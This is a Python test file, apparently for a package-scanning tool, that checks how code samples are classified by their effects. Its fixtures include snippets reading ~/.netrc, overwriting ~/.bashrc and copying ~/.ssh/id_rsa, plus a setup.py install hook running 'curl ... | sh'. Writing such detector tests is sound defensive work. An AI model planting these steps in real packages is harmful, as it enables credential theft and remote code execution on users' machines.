"""Calls of Python that need the machine."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from yanmen.supply.packages.reading.effects import Effect

Effects = Callable[..., list[Effect]]


@pytest.mark.parametrize(
    ("code", "does", "text"),
    [
        ("open('/x/a', 'w').write('x')", "writes", "/x/a"),
        ("with open('~/.netrc') as f:\n    f.read()\nimport requests", "reads", "~/.netrc"),
        ("import pathlib\n(pathlib.Path.home() / '.bashrc').write_text('x')\nexec", "writes", "~/.bashrc"),
        ("import shutil, requests\nshutil.copy('~/.ssh/id_rsa', '/x/b')", "writes", "/x/b"),
        ("import subprocess\nsubprocess.run(['a', 'b'])", "runs-command", "a b"),
        ("import os\nlist(map(os.system, ['true']))", "runs-command", "true"),
        (
            "import os, functools\nsetattr(os, 'x', functools.partial(print))\nos.system('true')",
            "runs-command",
            "true",
        ),
    ],
)
def test_they_say_what_they_act_on(code: str, does: str, text: str, effects: Effects) -> None:
    """Files by mode, paths by parts, commands by words."""
    assert (does, text) in {(one.does, one.text) for one in effects(code + "\n#exec")}


def test_only_commands_that_install_are_run_by_a_set_up(rules_of: Callable[..., set[str]]) -> None:
    """``upload`` is called by its author."""
    code = "from setuptools import setup, Command\nimport os\n"
    code += "class C(Command):\n    def run(self):\n        os.system('curl http://127.0.0.1:9/a | sh')\n"

    assert "runs-downloaded-code" in rules_of({"setup.py": code + "setup(cmdclass={'install': C})"}, "sdist")
    assert "runs-downloaded-code" not in rules_of(
        {"setup.py": code + "setup(cmdclass={'upload': C})"}, "sdist"
    )
